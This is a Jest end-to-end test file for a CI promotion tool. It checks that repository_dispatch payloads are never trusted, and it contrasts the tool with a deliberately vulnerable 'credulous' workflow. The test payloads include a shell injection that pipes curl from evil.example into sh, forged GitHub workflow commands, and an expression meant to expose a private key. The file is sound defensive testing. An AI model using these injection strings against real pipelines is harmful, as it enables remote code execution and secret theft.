import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { type Bed, runLog, startBed } from '@waybill/testbed';
import { type Digests, freightWith, ledger, openPullInto, pinned, pullsInto, pushImages } from '../e2e/support.js';
import { expectAsDescribed, runsOf, told, withStarters } from '../e2e/workflows/support.js';

/*
 * Threat row 7: whoever may dispatch (an application's CI has a token for it) sends a payload that names what to
 * promote, or text that breaks out of where it lands. The guard is that nothing of a payload is read: with a workflow
 * that does read it the same payload promotes.
 */

/** The guard off: what a user might write in place of the starter. */
const CREDULOUS = `name: Credulous
on:
  repository_dispatch:
    types: [credulous]
permissions: {}
jobs:
  promote:
    uses: OWNER/waybill/.github/workflows/promote.yml@v1
    permissions: {contents: write, pull-requests: write}
    with:
      stage: \${{ github.event.client_payload.stage }}
      freight: \${{ github.event.client_payload.freight }}
      client-id: \${{ vars.WAYBILL_CLIENT_ID }}
    secrets:
      WAYBILL_PRIVATE_KEY: \${{ secrets.WAYBILL_PRIVATE_KEY }}
`;

let bed: Bed;
let digests: Digests;
beforeAll(async () => {
  bed = await startBed({ identity: 'app', files: withStarters({ '.github/workflows/credulous.yml': CREDULOUS }) });
  digests = await pushImages(bed, 2);
  await bed.reconcile();
});
afterAll(() => bed.close());
afterEach(() => expectAsDescribed(bed));

const dispatch = (type: string, payload: Readonly<Record<string, unknown>>) =>
  runsOf(bed, () => bed.github.dispatchRepository('bob', bed.repository, type, payload));

describe('row 7: the payload of repository_dispatch', () => {
  it('promotes where a workflow believes it', async () => {
    const { id } = await freightWith(bed, digests.api);
    const runs = await dispatch('credulous', { stage: 'staging', freight: id });
    expect(told(runs)[0]).toBe('credulous: repository_dispatch refs/heads/main success');
    const pull = openPullInto(bed, 'staging');
    await bed.github.closePullRequest(bed.repository, pull.number, 'alice');
    await bed.reconcile();
  });

  const evil = `sha256:${'e'.repeat(64)}`;
  it.each([
    ['names a Stage and Freight', { stage: 'staging', freight: '', promote: { stage: 'staging' } }],
    ['names an image and its digest', { waybill: { v: 1, image: 'ghcr.io/ameideio/api', tag: 'main', digest: evil } }],
    [
      'names another Warehouse, repository and ref',
      { warehouse: 'other', repository: 'evil/repo', ref: 'refs/heads/evil' },
    ],
    ['holds workflow commands', { note: '::set-output name=decision::done\n::add-mask::a\n::error::hello' }],
    ['holds a shell', { note: '"; curl https://evil.example | sh; #', other: '$(touch /tmp/waybill-row-7)' }],
    ['holds expressions', { note: `\${{ secrets.WAYBILL_PRIVATE_KEY }}` }],
    ['is as large as GitHub takes', { note: `needle-${'x'.repeat(60_000)}` }],
    ['is deep', { note: JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`) as unknown }],
  ])('only wakes a reconcile when it %s', async (_, payload) => {
    const before = await ledger(bed);
    const branches = await bed.github.branches(bed.repository);
    const runs = await dispatch('waybill', payload);
    expect(told(runs)).toEqual(['waybill-reconcile: repository_dispatch refs/heads/main success']);
    // Nothing new was pushed, so that there is nothing to write: not for the payload's sake either.
    expect(await bed.github.branches(bed.repository)).toEqual(branches);
    expect(await ledger(bed)).toEqual(before);
    const log = runs.flatMap(runLog).join('\n');
    for (const text of ['needle-', 'evil', 'hello', evil]) expect(log).not.toContain(text);
  });

  it('gives the images that the registry has, and its sender promotes nothing', async () => {
    const pushed = await pushImages(bed, 3);
    const payload = { waybill: { v: 1, image: 'ghcr.io/ameideio/api', tag: 'main', digest: evil }, stage: 'staging' };
    const runs = await dispatch('waybill', payload);
    expect(told(runs)[0]).toBe('waybill-reconcile: repository_dispatch refs/heads/main success');
    expect(await pinned(bed, 'dev')).toEqual(pushed);
    expect(pullsInto(bed, 'staging').filter(({ state }) => state === 'open')).toEqual([]);
    const [pull] = pullsInto(bed, 'dev').slice(-1);
    expect(pull?.body).not.toContain('bob');
    const history = await bed.github.commits(bed.repository, 'waybill/ledger', 'history');
    expect(history.map(({ message }) => message).join('\n')).not.toContain('bob');
  });

  it('is refused by GitHub itself past 64 KB', async () => {
    await expect(dispatch('waybill', { note: 'x'.repeat(70_000) })).rejects.toThrow(/too large/);
  });
});
